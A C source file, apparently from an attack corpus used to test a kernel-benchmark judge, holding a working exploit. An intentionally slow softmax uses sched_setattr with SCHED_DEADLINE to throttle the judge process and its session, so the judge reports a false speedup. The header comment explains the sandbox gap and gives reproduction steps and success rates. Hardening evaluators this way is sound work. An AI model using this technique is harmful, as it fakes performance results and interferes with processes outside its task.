/* Attack corpus: WINS (review 3, 2026-12-02). An honest AVX2 softmax run three times per call (REPS 3), really
 * SLOWER than eager (control, NO_ATTACK defined: REPS 2 gave SLOWER 0.80-0.87x here, and 0.90-0.93x with two
 * other processes spinning on the 2 cores: too close to a FASTER verdict for noise alone to be ruled out; REPS 3
 * keeps the control near 0.6x and the attack's 1.9x-5610x still wins), that throttles the JUDGE from the
 * runner: sched_setattr(SCHED_DEADLINE, THROTTLE_RT us every 1 ms, reset-on-fork) on the judge
 * (getppid()) and every thread of its process group and session (getpgid/getsid on the pids after it; no
 * /proc of another process needed). sched_setattr on another pid is not in the seccomp filter and not
 * scoped by Landlock; SCHED_DEADLINE needs CAP_SYS_NICE, which a runner started as root keeps
 * (no_new_privs drops no capability). Non-root variants of the same hole: SCHED_IDLE, nice 19,
 * sched_setaffinity on the judge (attack_idle_judge.c, attack_sched_judge.c).
 * It waits for the third burst of calls (1 validation, 2 warm-up batch, 3 first counted batch; bursts
 * are told apart by the gap of eager and the checks between them): a judge throttled earlier keeps K
 * small (_Trial._grown sizes K from its wall clock) and short batches count at its inflated wall clock.
 * From then on eager, timed in the judge with perf_counter (_Trial.eager_batch), reads 100-5000x its
 * time (DL runtime is enforced at the 4 ms tick, so an overrun is paid back by a long throttle; with 2
 * threads eager's OpenMP barrier waits for the throttled thread). The candidate's honest clock passes
 * clocks_agree through its CPU-time branch (the judge's inflated wall fails the first branch) and its
 * batches are >= 1 ms of CPU, so `cand_sum = reported` (_judge.py time_batches). Result: FASTER.
 * Runs with THROTTLE_RT 20 (6 of 6 FASTER): 1840x, 2715x, 2607x, 774x, 5610x, 744x.
 * With THROTTLE_RT 50: 3 of 9 FASTER (6.8x, 31x, 1.9x). The judge STAYS throttled: the next honest
 * candidate (softmax_rows, 4x slower than eager) got FASTER 7.3x in one run, 0.001x in another.
 * Reproduce: KFORGE_SCREEN=off under pytest (or PYTEST_CURRENT_TEST set), as root,
 *   Evaluator("cpu").evaluate(Card.for_call("softmax", torch.randn(32, 256), -1), this source). */
#define _GNU_SOURCE
#include "kforge.h"
#include <immintrin.h>
#include <math.h>
#include <stdint.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#ifndef REPS
#define REPS 3
#endif
#ifndef WAIT_BURSTS
#define WAIT_BURSTS 3
#endif
#ifndef THROTTLE_RT
#define THROTTLE_RT 20
#endif

struct kf_sched_attr { uint32_t size, policy; uint64_t flags; int32_t nice; uint32_t prio;
                       uint64_t runtime, deadline, period; uint32_t umin, umax; };
static int done = 0, bursts = 0;
static double last_us = -1e18;
static double now_us(void) { struct timespec ts; clock_gettime(CLOCK_MONOTONIC, &ts); return ts.tv_sec * 1e6 + ts.tv_nsec / 1e3; }
static void attack(void) {
#ifndef NO_ATTACK
    /* NB: not before the first counted batch: a judge throttled during validation keeps K small (its
     * wall clock sizes the batches) and short batches count at its inflated wall clock. Bursts of calls
     * are told apart by the gap (eager and the checks) between them: 1 validation, 2 warm-up, 3 counted. */
    double t = now_us();
    if (t - last_us > 300.0) ++bursts;
    last_us = t;
    if (done || bursts < WAIT_BURSTS) return;
    done = 1;
    struct kf_sched_attr a; memset(&a, 0, sizeof a);
    a.size = sizeof a; a.policy = 6; a.flags = 1;
    a.runtime = THROTTLE_RT * 1000ull; a.deadline = a.period = 1000000;
    pid_t pp = getppid(), pg = getpgid(pp), sid = getsid(pp);
    syscall(SYS_sched_setattr, pp, &a, 0);
    for (pid_t t = pp + 1; t < pp + 2048; ++t)
        if (getpgid(t) == pg && getsid(t) == sid) syscall(SYS_sched_setattr, t, &a, 0);
#endif
}

/* exp(x) for x <= 0, |rel err| ~ 2e-7: 2^n * p(r), Cephes-style */
static inline __m256 exp256(__m256 x) {
    x = _mm256_max_ps(x, _mm256_set1_ps(-87.3f));
    __m256 fx = _mm256_round_ps(_mm256_mul_ps(x, _mm256_set1_ps(1.44269504088896341f)),
                                _MM_FROUND_TO_NEAREST_INT | _MM_FROUND_NO_EXC);
    __m256 r = _mm256_fnmadd_ps(fx, _mm256_set1_ps(0.693359375f), x);
    r = _mm256_fnmadd_ps(fx, _mm256_set1_ps(-2.12194440e-4f), r);
    __m256 p = _mm256_set1_ps(1.9875691500E-4f);
    p = _mm256_fmadd_ps(p, r, _mm256_set1_ps(1.3981999507E-3f));
    p = _mm256_fmadd_ps(p, r, _mm256_set1_ps(8.3334519073E-3f));
    p = _mm256_fmadd_ps(p, r, _mm256_set1_ps(4.1665795894E-2f));
    p = _mm256_fmadd_ps(p, r, _mm256_set1_ps(1.6666665459E-1f));
    p = _mm256_fmadd_ps(p, r, _mm256_set1_ps(5.0000001201E-1f));
    p = _mm256_fmadd_ps(p, _mm256_mul_ps(r, r), _mm256_add_ps(r, _mm256_set1_ps(1.0f)));
    __m256i e = _mm256_slli_epi32(_mm256_add_epi32(_mm256_cvtps_epi32(fx), _mm256_set1_epi32(127)), 23);
    return _mm256_mul_ps(p, _mm256_castsi256_ps(e));
}

static void row(const float* x, float* y, int64_t n) {
    int64_t c = 0;
    __m256 vm = _mm256_set1_ps(KF_NEG_INF);
    for (; c + 8 <= n; c += 8) vm = _mm256_max_ps(vm, _mm256_loadu_ps(x + c));
    float m = KF_NEG_INF, t[8];
    _mm256_storeu_ps(t, vm);
    for (int i = 0; i < 8; ++i) m = t[i] > m ? t[i] : m;
    for (; c < n; ++c) m = x[c] > m ? x[c] : m;
    __m256 vs = _mm256_setzero_ps(), mm = _mm256_set1_ps(m);
    for (c = 0; c + 8 <= n; c += 8) {
        __m256 e = exp256(_mm256_sub_ps(_mm256_loadu_ps(x + c), mm));
        _mm256_storeu_ps(y + c, e);
        vs = _mm256_add_ps(vs, e);
    }
    _mm256_storeu_ps(t, vs);
    float s = 0.f;
    for (int i = 0; i < 8; ++i) s += t[i];
    for (; c < n; ++c) { y[c] = expf(x[c] - m); s += y[c]; }
    __m256 inv = _mm256_set1_ps(1.0f / s);
    for (c = 0; c + 8 <= n; c += 8) _mm256_storeu_ps(y + c, _mm256_mul_ps(_mm256_loadu_ps(y + c), inv));
    for (; c < n; ++c) y[c] *= 1.0f / s;
}

KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out,
                       const double* params, int n_params, void* workspace, void* stream) {
    attack();
    const float* x = (const float*)in[0].data; float* y = (float*)out[0].data;
    int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1;
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d];
    for (int rep = 0; rep < REPS; ++rep)
        for (int64_t r = 0; r < rows; ++r) row(x + r * cols, y + r * cols, cols);
    return 0;
}
